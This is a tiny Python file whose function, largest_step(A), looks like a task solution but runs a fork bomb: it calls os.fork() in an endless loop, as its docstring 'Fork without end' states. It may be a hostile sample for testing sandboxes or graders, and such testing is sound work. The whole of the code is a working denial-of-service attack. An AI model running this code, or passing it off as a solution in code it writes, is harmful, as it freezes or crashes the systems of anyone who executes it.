"""Fork without end."""

import os


def largest_step(A):
    while True:
        os.fork()
